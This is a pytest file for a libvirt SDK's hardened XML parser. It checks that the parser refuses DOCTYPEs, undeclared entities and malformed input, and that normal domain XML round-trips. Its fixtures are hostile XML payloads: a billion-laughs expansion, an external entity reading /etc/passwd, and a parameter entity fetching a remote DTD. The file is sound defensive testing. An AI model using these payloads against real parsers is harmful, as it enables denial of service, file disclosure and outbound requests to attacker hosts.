"""The hardened XML parser refuses entity tricks and DOCTYPEs, parses libvirt XML."""

from __future__ import annotations

import pytest
from virtsdk_libvirt import xmlutil

from virtsdk.exceptions import UnsafeXML

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain><name>&lol9;</name></domain>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE domain [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<domain><name>&secret;</name></domain>
"""

PARAMETER_ENTITY = (
    """<!doctype d [<!ENTITY % ext SYSTEM "http://198.51.100.1/x.dtd"> %ext;]><d/>""")


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_entity_documents_are_refused(document: str) -> None:
    with pytest.raises(UnsafeXML, match="DOCTYPE|entity"):
        xmlutil.parse(document)


def test_bare_doctype_is_refused_even_without_entities() -> None:
    with pytest.raises(UnsafeXML):
        xmlutil.parse('<!DOCTYPE domain SYSTEM "domain.dtd"><domain/>')


def test_undeclared_entity_reference_is_refused() -> None:
    with pytest.raises(UnsafeXML):
        xmlutil.parse("<domain><name>&unknown;</name></domain>")


def test_malformed_xml_is_refused_with_the_reason() -> None:
    with pytest.raises(UnsafeXML, match="malformed"):
        xmlutil.parse("<domain><name>x</domain>")


def test_libvirt_style_xml_parses_and_round_trips() -> None:
    doc = ("<domain type='qemu'>\n  <name>vm-1</name>\n  <devices>\n"
           "    <graphics type='vnc' listen='198.18.1.2'/>\n  </devices>\n</domain>")
    root = xmlutil.parse(doc.encode())
    assert root.tag == "domain"
    assert xmlutil.find_text(root, "name") == "vm-1"
    assert xmlutil.find_text(root, "uuid", "none") == "none"
    again = xmlutil.parse(xmlutil.to_string(root))
    assert again.find("devices/graphics").get("listen") == "198.18.1.2"


def test_character_references_are_fine() -> None:
    root = xmlutil.parse("<d><name>a&amp;b&#65;</name></d>")
    assert xmlutil.find_text(root, "name") == "a&bA"
